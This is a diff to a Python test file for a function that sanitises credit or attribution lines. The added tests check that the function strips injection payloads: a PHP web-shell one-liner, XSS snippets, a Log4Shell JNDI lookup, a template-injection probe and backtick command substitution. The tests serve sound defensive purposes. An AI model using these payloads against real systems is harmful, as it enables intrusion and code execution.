@@ -48,9 +48,28 @@ def credit(value: object) -> object:
 
 
 def test_a_credit_is_one_short_line() -> None:
-    assert (
-        credit("  Ada\0Bob\x1b[31m\n <b> " + "x" * 5000) == ("Ada Bob[31m <b> " + "x" * 5000)[:200]
-    )
+    assert credit("  Ada\0Bob\x1b[31m\n b " + "x" * 5000) == ("Ada Bob[31m b " + "x" * 5000)[:200]
+
+
+@pytest.mark.parametrize(
+    "code",
+    [
+        "<?php system($_GET['c']); ?>",
+        "<script>alert(1)</script>",
+        '"><img src=x onerror=alert(1)>',
+        "${jndi:ldap://example.org/x}",
+        "{{7*7}}",
+        "`id`",
+    ],
+)
+def test_a_credit_holds_no_code(code: str) -> None:
+    assert credit(f"(c) Ada {code}") == "(c) Ada"
+    assert credit(code) is None
+
+
+@pytest.mark.parametrize("name", ['A$AP "Big" O\'Neil', "R&D [studio] (c) 50% @ada #1; a/b = c"])
+def test_a_credit_may_hold_odd_letters(name: str) -> None:
+    assert credit(name) == name
 
 
 def test_letters_of_all_scripts_survive() -> None:
